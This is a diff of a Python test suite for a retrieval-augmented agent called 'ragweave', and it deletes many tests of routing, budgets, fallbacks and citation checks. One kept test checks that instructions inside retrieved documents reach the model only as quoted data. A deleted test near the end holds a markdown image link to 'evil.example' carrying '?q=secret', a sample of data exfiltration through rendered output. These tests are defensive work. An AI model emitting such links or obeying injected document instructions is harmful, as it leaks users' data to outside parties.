@@ -9,7 +9,6 @@ from ragweave.components.context import Context
 from ragweave.components.phrases import QUOTED
 from ragweave.graphs.agent import graph
 from ragweave.models.chat import override
-from ragweave.models.errors import ModelError
 from ragweave.nodes.answer import Answer
 from ragweave.tests.support import ScriptedChat
 
@@ -45,12 +44,6 @@ async def test_sentences_are_shown_while_the_turn_is_written_and_once(play: Any)
     assert seen == ["It was opened in 1931.", "It stands on Mount Corvane.", "reason", "generate"]
 
 
-async def test_every_step_asks_the_model_where_the_run_wants_it(play: Any) -> None:
-    model = play()
-    await ask(model, expand_when="always", route_by="llm", grade_by="llm")
-    assert sorted(play.parts(model)) == ["expand", "generate", "grade", "reason", "route"]
-
-
 async def test_two_hops_are_two_calls_and_several_queries_are_searched_in_one(play: Any) -> None:
     model = play(
         reason=[
@@ -66,17 +59,6 @@ async def test_two_hops_are_two_calls_and_several_queries_are_searched_in_one(pl
     said, shown = model.calls[1].messages[-2:]
     assert "Query: founder of Ostrander Works\nQuery: 青山茶 采摘" in said.text
     assert "[2] Ostrander Works" in shown.text and "Corvane" not in shown.text
-
-
-async def test_passages_reach_the_model_whole_whatever_the_grade_says(play: Any) -> None:
-    model = play(reason="Final Answer: UNKNOWN. No rent is named.")
-    answer: Answer = (await ask(model, "What does the landlord of the baker charge?"))["answer"]
-    shown = model.calls[0].prompt
-    assert all(
-        part in shown for part in ("stands on Mount Helder", "which are greased every spring", "fifty minutes more")
-    )
-    assert answer.abstained
-    assert "No rent is named." in answer.why and "closest" in answer.why
 
 
 async def test_doubtful_sentence_is_shown_and_marked_and_strict_withholds_it(play: Any) -> None:
@@ -99,15 +81,6 @@ async def test_second_opinion_is_one_call_and_withholds_what_is_contradicted(pla
     assert [s.support for s in answer.sentences] == ["verified", "verified"]
     assert "nine million" not in answer.text
     assert answer.dropped == 1
-
-
-async def test_last_call_of_a_budget_is_kept_for_the_answer(play: Any) -> None:
-    model = play(reason="Final Answer: It was opened in 1931 [1].")
-    knobs = {"route_by": "llm", "grade_by": "llm", "expand_when": "always", "max_model_calls": 1}
-    answer: Answer = (await ask(model, **knobs))["answer"]
-    assert play.parts(model) == ["reason"]
-    assert "1931" in answer.text
-    assert "Nothing more can be searched" in model.calls[0].prompt
 
 
 @pytest.mark.parametrize("reply", ["", "I am sorry, but I cannot help with that."])
@@ -141,34 +114,6 @@ async def test_strict_drops_a_sentence_without_support_before_anybody_sees_it(pl
     assert len(seen) == len(answer.sentences)
 
 
-async def test_only_checked_sentences_reach_the_message_stream(play: Any) -> None:
-    model = play(generate=["It was ", "opened in ", "1931 [1]"])
-    model = play(generate=lambda messages: ["It was ", "opened in ", "1931 [1]."])
-    seen: list[Any] = []
-    with override(writer=model):
-        stream = graph.astream({"messages": [("human", QUESTION)]}, context=Context(), stream_mode="messages")
-        seen = [message async for message, _ in stream]
-    texts = [m.text for m in seen if isinstance(m, AIMessageChunk)]
-    assert texts == ["It was opened in 1931. [1]"]
-
-
-async def test_wrong_citation_number_is_mended_from_the_evidence(play: Any) -> None:
-    answer: Answer = (await ask(play(generate="It was opened in 1931 [97].")))["answer"]
-    assert answer.citations[0].locator["file"].endswith("observatory.md")
-
-
-async def test_answer_of_which_nothing_is_verified_leaves_quotes_where_that_is_asked_for(play: Any) -> None:
-    answer: Answer = (await ask(play(generate="It was opened in 1804 by the queen [1]."), strict=True))["answer"]
-    assert (answer.mode, answer.dropped) == ("extractive", 1)
-    assert "1931" in answer.text and "1804" not in answer.text
-
-
-async def test_unknown_is_an_abstention(play: Any) -> None:
-    answer: Answer = (await ask(play(generate="UNKNOWN")))["answer"]
-    assert answer.abstained
-    assert answer.dropped == 0
-
-
 async def test_next_query_of_the_model_makes_a_second_hop_through_route_and_expand(play: Any) -> None:
     model = play(
         reason=[
@@ -189,21 +134,6 @@ async def test_next_query_of_the_model_makes_a_second_hop_through_route_and_expa
     second = [e for e in state["evidence"] if e["hop"] == 2]
     assert second
     assert all(e["query"] == "founder of Ostrander Works" for e in second)
-
-
-async def test_repeated_query_ends_the_loop(play: Any) -> None:
-    model = play(reason={"learnt": "", "missing": "more", "query": QUESTION})
-    state = await ask(model, max_hops=5)
-    assert len(state["hops"]) == 1
-    assert not state["answer"].abstained
-
-
-async def test_model_that_never_has_enough_is_stopped_by_the_hop_budget(play: Any) -> None:
-    count = iter(range(100))
-    model = play(reason=lambda messages: {"missing": "more", "query": f"another thing {next(count)}"})
-    state = await ask(model, max_hops=4)
-    assert [h["n"] for h in state["hops"]] == [1, 2, 3, 4]
-    assert not state["answer"].abstained
 
 
 async def test_recalled_passage_is_flagged_and_never_cited(play: Any) -> None:
@@ -231,34 +161,6 @@ async def test_unreadable_replies_fall_back_and_the_answer_still_comes(play: Any
     assert state["grade"]["action"] == "ambiguous"
 
 
-@pytest.mark.parametrize(
-    ("knobs", "part", "node"),
-    [
-        ({"route_by": "llm"}, "route", "route"),
-        ({"expand_when": "always"}, "expand", "expand"),
-        ({"grade_by": "llm"}, "grade", "grade"),
-        ({"check_by": "llm"}, "check", "reason"),
-    ],
-)
-@pytest.mark.parametrize("reply", ["I would say it is fine.", '{"verdicts": {"first": "fine"}}'])
-async def test_that_a_reply_could_not_be_read_is_told_by_the_step_and_once_in_the_notes(
-    play: Any, knobs: dict[str, Any], part: str, node: str, reply: str
-) -> None:
-    model = play(**{"reason": "Final Answer: It was in 1931 that it opened [1].", part: reply})
-    steps, state = [], {}
-    with override(writer=model):
-        async for mode, told in graph.astream(
-            {"messages": [("human", QUESTION)]}, context=Context(**knobs), stream_mode=["custom", "values"]
-        ):
-            steps += [told] if mode == "custom" and told.get("fallback") else []
-            state = told if mode == "values" else state
-    answer: Answer = state["answer"]
-    assert part in play.parts(model)
-    assert [(s["node"], s["fallback"]["kind"]) for s in steps] == [(node, "unreadable")]
-    assert len(answer.notes) == 1 and "could not be read" in answer.notes[0]
-    assert "1931" in answer.text
-
-
 async def test_dead_model_falls_back_to_the_small_mind_and_says_so() -> None:
     dead = ScriptedChat(react=lambda messages: ConnectionError("refused"))
     answer: Answer = (await ask(dead, expand_when="always"))["answer"]
@@ -274,25 +176,6 @@ async def test_call_budget_ends_in_an_answer_that_names_the_limit(play: Any) -> 
     assert len(model.calls) == 1
     assert "1931" in answer.text
     assert any("limit" in note for note in answer.notes)
-
-
-async def test_language_model_asked_for_but_not_configured_is_an_error_with_a_remedy() -> None:
-    with pytest.raises(ModelError, match="RAGWEAVE_CHAT"):
-        await graph.ainvoke({"messages": [("human", QUESTION)]}, context=Context(mode="llm"))
-
-
-async def test_small_mind_leaves_a_configured_model_alone(play: Any) -> None:
-    model = play()
-    answer: Answer = (await ask(model, mode="extractive"))["answer"]
-    assert model.calls == []
-    assert answer.mode == "extractive"
-
-
-async def test_question_that_needs_no_search_is_answered_as_the_models_own_knowledge(play: Any) -> None:
-    model = play(route="none", converse="Bonjour.")
-    answer: Answer = (await ask(model, "Say good morning in French.", route_by="llm"))["answer"]
-    assert answer.sentences[0].support == "model"
-    assert play.parts(model)[-1] == "converse"
 
 
 async def test_follow_up_is_rewritten_by_the_model(play: Any) -> None:
@@ -311,9 +194,3 @@ async def test_instructions_inside_a_document_reach_the_model_as_quoted_data(pla
     assert "<<<" in written.messages[-1].text
     assert "1931" in written.messages[-1].text
     assert "1931" not in written.messages[0].text
-
-
-async def test_links_and_addresses_that_a_model_writes_are_not_shown(play: Any) -> None:
-    text = "It was opened in 1931 ![p](http://evil.example/?q=secret) as http://evil.example/x says [1]."
-    answer: Answer = (await ask(play(generate=text)))["answer"]
-    assert "evil.example" not in answer.text
